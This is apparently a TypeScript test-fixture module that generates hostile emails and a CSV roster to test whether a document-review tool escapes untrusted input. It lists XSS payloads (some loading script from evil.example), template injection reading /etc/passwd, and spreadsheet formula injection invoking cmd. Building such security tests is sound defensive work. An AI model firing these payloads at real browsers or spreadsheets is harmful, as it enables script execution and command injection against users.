import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

/** What somebody may write who wants their words to run in a reviewer's browser or spreadsheet. */
const TRICKS = [
  '<script>window.ran=1</script>',
  '"><script src=https://evil.example/x.js></script>',
  '<img src=x onerror="window.ran=2">',
  '<svg onload=window.ran=3>',
  '<iframe src="https://evil.example/"></iframe>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/y.css"; body{display:none}</style>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><button autofocus onfocus="window.ran=4">x</button></form>',
  '<a href="javascript:window.ran=5">here</a>',
  '<details open ontoggle="window.ran=6">x</details>',
  '<video autoplay src="https://evil.example/v"></video>',
  '<object data="https://evil.example/o"></object>',
  '<math><mtext><script>window.ran=7</script></mtext></math>',
  '</textarea><script>window.ran=8</script>',
  '</title><script>window.ran=9</script>',
  '{{ constructor.constructor("window.ran=10")() }}',
  '{% include "/etc/passwd" %}',
  `$\{window.ran=11}`,
  "' onmouseover='window.ran=12",
  '" autofocus onfocus="window.ran=13" x="',
  '<input autofocus onfocus="window.ran=14">',
  '<body onload="window.ran=15">',
  '&lt;script&gt;window.ran=16&lt;/script&gt;',
  '<!--><script>window.ran=17</script>-->',
  '\u202E<script>top.ran=18</script>',
  '<scr\u0000ipt>self.ran=19</scr\u0000ipt>',
  '=HYPERLINK("https://evil.example/";"open")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '<img src="data:image/svg+xml,<svg onload=window.ran=20>">',
] as const;

export const HOSTILE_LETTERS = TRICKS.length;

const encoded = (text: string): string => `=?utf-8?B?${Buffer.from(text).toString('base64')}?=`;

/** Letters whose subject, names, text, html and attachment's name each carry a trick, and words that are flagged. */
export function writeHostileMail(folder: string): void {
  mkdirSync(folder, { recursive: true });
  TRICKS.forEach((trick, n) => {
    const text = `Ruth, ${trick}\n\nIf the report is not changed by Friday I shall see that you lose your job. ${trick}\n\n-- \n${trick}\n`;
    const lines = [
      `From: ${encoded(`Jane ${trick}`)} <jane.marsh@fenwick.example>`,
      `To: ${encoded(trick)} <ruth.adeyemi@fenwick.example>`,
      `Bcc: ${encoded(trick)} <colin.tate@fenwick.example>`,
      `Subject: ${encoded(trick)}`,
      `Message-ID: <m${n}@fenwick.example>`,
      'Date: Tue, 05 Mar 2024 10:00:00 +0000',
      `X-Original-To: ${trick.replace(/[\0\n]/g, '')}`,
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary=edge',
      '',
      '--edge',
      'Content-Type: text/plain; charset=utf-8',
      'Content-Transfer-Encoding: base64',
      '',
      Buffer.from(text).toString('base64'),
      '--edge',
      'Content-Type: text/html; charset=utf-8',
      'Content-Transfer-Encoding: base64',
      `Content-Disposition: attachment; filename="${encoded(`${trick}.html`)}"`,
      '',
      Buffer.from(
        `<html><body><p>${trick}</p><p>You will lose your job.</p></body></html>`,
      ).toString('base64'),
      '--edge--',
      '',
    ];
    writeFileSync(join(folder, `${n}.eml`), lines.join('\r\n'));
  });
}

export const HOSTILE_ROSTER = `name,email,role,party,title
Jane Marsh,jane.marsh@fenwick.example,member,Labour,Councillor
Colin Tate,colin.tate@fenwick.example,member,Labour,Councillor
Ruth Adeyemi,ruth.adeyemi@fenwick.example,officer,,"Head of <script>window.ran=30</script>"
`;
